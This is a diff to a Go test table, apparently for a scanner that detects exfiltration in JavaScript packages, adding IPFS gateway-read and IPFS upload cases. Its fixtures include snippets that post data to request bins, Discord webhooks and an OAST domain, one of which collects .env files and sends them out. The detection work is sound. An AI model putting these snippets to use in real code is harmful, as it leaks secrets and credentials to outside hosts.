@@ -25,6 +25,9 @@ func TestExfilService(t *testing.T) {
 		{"pipedream", map[string]string{"index.js": `https.request({ hostname: "abc.m.pipedream.net", method: "POST" })`}, finding.SeverityHigh},
 		// a request bin in a file that walks the directories for .env files
 		{"request_bin_reads_files", map[string]string{"index.js": "const fs = require(\"fs\"); const ENDPOINT = \"https://webhook.site/3f9c2a71\"; const files = fs.readdirSync(dir).filter(n => /^\\.env/.test(n)).map(n => fs.readFileSync(n, \"utf8\")); post(ENDPOINT, files)"}, finding.SeverityCritical},
+		// an IPFS gateway read (an ENS avatar) is no upload
+		{"ipfs_gateway_read", map[string]string{"index.js": `const GATEWAY = "https://gateway.ipfs.io/ipfs/"; exports.avatar = cid => fetch(GATEWAY + cid)`}, finding.SeverityNone},
+		{"ipfs_upload_api", map[string]string{"index.js": `fetch("https://ipfs.io/api/v0/add", { method: "POST", body: loot })`}, finding.SeverityHigh},
 		{"oast_concat", map[string]string{"index.js": `const h = "x1" + ".oast" + ".fun"; dns.lookup(h)`}, finding.SeverityHigh},
 		{"discord_webhook", map[string]string{"index.js": `fetch("https://discord.com/api/webhooks/1/abc", {method:"POST"})`}, finding.SeverityHigh},
 		// a bot token in the path of a relayed request with run-time parts
